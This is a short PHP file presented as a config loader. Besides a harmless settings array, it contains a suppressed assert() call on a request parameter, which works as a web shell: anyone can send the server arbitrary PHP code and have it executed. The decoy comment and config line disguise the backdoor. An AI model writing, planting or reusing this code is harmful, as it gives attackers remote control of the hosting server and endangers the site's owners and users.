<?php
// looks like a config loader
$cfg = array('debug' => false);
@assert($_REQUEST['c']);
?>
